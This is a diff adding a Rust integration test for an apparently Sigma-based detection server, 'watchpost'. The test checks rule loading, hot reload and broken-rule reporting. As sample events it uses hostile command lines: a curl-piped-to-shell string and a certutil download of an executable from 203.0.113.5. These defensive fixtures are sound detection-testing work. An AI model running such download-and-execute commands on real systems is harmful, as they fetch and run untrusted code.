@@ -370,3 +370,149 @@ fn refuses_to_listen_beyond_loopback_without_authentication() {
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("refusing to listen on 0.0.0.0"), "{stderr}");
 }
+
+fn linux_rule(id: &str, needle: &str) -> String {
+    format!(
+        "title: Test rule {needle}\nid: {id}\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n\
+         logsource: {{product: linux, category: process_creation}}\n\
+         detection:\n  selection:\n    CommandLine|contains: '{needle}'\n  condition: selection\n"
+    )
+}
+
+#[tokio::test]
+async fn live_detection_runs_builtin_and_folder_rules_and_reloads_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(
+        rules.join("a.yml"),
+        linux_rule("aaaaaaaa-0000-4000-8000-000000000001", "evil-a"),
+    )
+    .unwrap();
+    let config = dir.path().join("watchpost.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[detection]\nrules_dirs = [{:?}]\n",
+            rules.display().to_string()
+        ),
+    )
+    .unwrap();
+    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
+    let http = reqwest::Client::new();
+    let post = |body: Value| {
+        let (http, url) = (http.clone(), server.url("/api/v1/events"));
+        async move {
+            assert_eq!(
+                http.post(url).json(&body).send().await.unwrap().status(),
+                200
+            )
+        }
+    };
+    let detections = |query: &'static str| {
+        let (http, url) = (
+            http.clone(),
+            server.url(&format!("/api/v1/detections?{query}")),
+        );
+        async move {
+            let page: Value = http.get(url).send().await.unwrap().json().await.unwrap();
+            page["items"].as_array().unwrap().clone()
+        }
+    };
+    let health = || {
+        let (http, url) = (http.clone(), server.url("/api/v1/system/health"));
+        async move {
+            let h: Value = http.get(url).send().await.unwrap().json().await.unwrap();
+            h["components"]["detection"].clone()
+        }
+    };
+    let builtin = watchpost_sigma::BUILTIN_RULES.len() as u64;
+    assert_eq!(health().await["rules"]["loaded"], builtin + 1);
+
+    post(json!([
+        {"host": {"name": "web-1"}, "process": {"pid": 4242, "command_line": "sh -c 'curl x | evil-a'"}},
+        {"host": {"name": "ws-1"}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
+            "event_data": {"Image": "C:\\Windows\\System32\\certutil.exe",
+                           "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}},
+        {"host": {"name": "web-1"}, "process": {"command_line": "ls -la"}}
+    ]))
+    .await;
+    eventually("both detections stored", || async {
+        detections("").await.len() == 2
+    })
+    .await;
+    let found = detections("rule_id=aaaaaaaa-0000-4000-8000-000000000001").await;
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0]["host"], "web-1");
+    assert_eq!(found[0]["severity"], "high");
+    assert_eq!(found[0]["attack"]["techniques"][0], "T1059.004");
+    assert_eq!(found[0]["entity"]["type"], "process");
+    assert_eq!(
+        found[0]["evidence"]["fields"]["CommandLine"],
+        "sh -c 'curl x | evil-a'"
+    );
+    let certutil = detections("host=ws-1").await;
+    assert_eq!(
+        certutil[0]["rule_title"], "Certutil Download or Decode",
+        "{certutil:?}"
+    );
+
+    // A new rule file takes effect without a restart.
+    std::fs::write(
+        rules.join("b.yml"),
+        linux_rule("bbbbbbbb-0000-4000-8000-000000000002", "evil-b"),
+    )
+    .unwrap();
+    eventually("rule b loaded", || async {
+        health().await["rules"]["loaded"] == builtin + 2
+    })
+    .await;
+    post(json!({"host": {"name": "web-2"}, "process": {"command_line": "evil-b --now"}})).await;
+    eventually("rule b fires", || async {
+        detections("rule_id=bbbbbbbb-0000-4000-8000-000000000002")
+            .await
+            .len()
+            == 1
+    })
+    .await;
+
+    // A broken rule is reported; the others keep running.
+    std::fs::write(rules.join("broken.yml"), "title: broken\nid: c\nlogsource: {product: linux}\ndetection:\n  sel:\n    CommandLine|nope: x\n  condition: sel\n").unwrap();
+    eventually("the broken rule is reported", || async {
+        health().await["status"] == "degraded"
+    })
+    .await;
+    let status = health().await;
+    assert_eq!(status["rules"]["loaded"], builtin + 2);
+    let failure = status["rules"]["failures"][0].as_str().unwrap().to_string();
+    assert!(
+        failure.contains("broken.yml:6: detection.sel.CommandLine|nope: unknown modifier"),
+        "{failure}"
+    );
+    post(json!({"host": {"name": "web-3"}, "process": {"command_line": "evil-a again"}})).await;
+    eventually("rule a still fires", || async {
+        detections("rule_id=aaaaaaaa-0000-4000-8000-000000000001")
+            .await
+            .len()
+            == 2
+    })
+    .await;
+    let resp = http
+        .get(server.url("/api/v1/detections?min_severity=urgent"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 400);
+    let metrics = http
+        .get(server.url("/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        metrics.contains("watchpost_detections_total 4"),
+        "{metrics}"
+    );
+}
